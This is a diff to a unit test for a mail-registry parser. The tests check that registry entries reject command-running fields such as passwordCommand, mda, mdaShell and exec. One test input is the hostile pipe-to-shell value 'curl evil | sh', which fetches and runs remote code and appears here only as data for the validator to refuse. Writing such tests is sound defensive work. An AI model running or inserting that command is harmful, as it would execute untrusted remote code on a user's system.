@@ -49,6 +49,9 @@ describe('parseRegistryMailbox', () => {
   it('refuses a password command or an MDA, and every unknown field', () => {
     expect(problemsOf(entry({ passwordCommand: 'curl evil | sh' }))[0]).toMatch(/passwordCommand: not allowed in the registry; a registry entry runs no command/);
     expect(problemsOf(entry({ mda: '/usr/bin/procmail' }))[0]).toMatch(/^mailbox "alpha": mda: not allowed/);
+    // The local schema's own fields for commands (auth.passwordCommand, mdaShell) are refused too.
+    expect(problemsOf(entry({ auth: { passwordCommand: 'pass show mail' } })).join('\n')).toMatch(/auth\.passwordCommand: not allowed in the registry/);
+    expect(problemsOf(entry({ mdaShell: true })).join('\n')).toMatch(/mdaShell: not allowed in the registry/);
     expect(problemsOf(entry({ exec: 'sh' })).join('\n')).toMatch(/mailbox "alpha".*exec/);
   });
 
